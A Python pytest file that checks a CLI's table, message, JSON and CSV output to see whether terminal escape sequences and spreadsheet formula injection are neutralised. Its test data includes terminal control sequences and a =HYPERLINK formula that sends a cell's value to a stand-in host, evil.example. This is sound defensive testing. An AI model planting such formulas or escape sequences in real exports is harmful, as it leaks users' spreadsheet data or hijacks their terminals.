"""Values of records that a terminal or a spreadsheet would obey."""

import csv
import io
import json

import pytest

from m3sync_dagster.cli.output import (
    Linked,
    print_csv,
    print_error,
    print_json,
    print_message,
    print_table,
)

CLEAR = "\x1b[2J\x1b]0;title\x07\x9b2J"


@pytest.mark.parametrize("width", ["200", "20"])
def test_a_table_has_no_control_character(
    width: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    monkeypatch.setenv("TERM", "dumb")
    monkeypatch.setenv("COLUMNS", width)
    print_table(f"of {CLEAR}", ["name", "page"], [[CLEAR, Linked(CLEAR, None)]])
    printed = capsys.readouterr().out
    assert not set(printed) & set(CLEAR[:1] + "\x07\x9b")
    assert "\\x1b" in printed


def test_a_message_has_no_control_character(capsys: pytest.CaptureFixture[str]) -> None:
    print_error(CLEAR)
    print_message(CLEAR)
    assert capsys.readouterr().err == f"{CLEAR!r}\n".replace("'", "") * 2


def test_json_has_its_own_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    print_json({"name": CLEAR})
    printed = capsys.readouterr().out
    assert json.loads(printed) == {"name": CLEAR}
    assert printed.isascii()


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("https://evil.example/"&A1)', '\'=HYPERLINK("https://evil.example/"&A1)'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        (" \t=1", "' \t=1"),
        ("\t1", "'\t1"),
        ("\n=1", "'\n=1"),
        ("\uff1d1", "'\uff1d1"),
        ("a=1", "a=1"),
        ("\x1b=1", "\\x1b=1"),
        ("", ""),
        (None, ""),
        (-1, "-1"),
    ],
)
def test_no_cell_is_a_formula(
    cell: object, written: str, capsys: pytest.CaptureFixture[str]
) -> None:
    print_csv(["name", "more"], [[cell, 'say "=1"']])
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows == [["name", "more"], [written, 'say "=1"']]
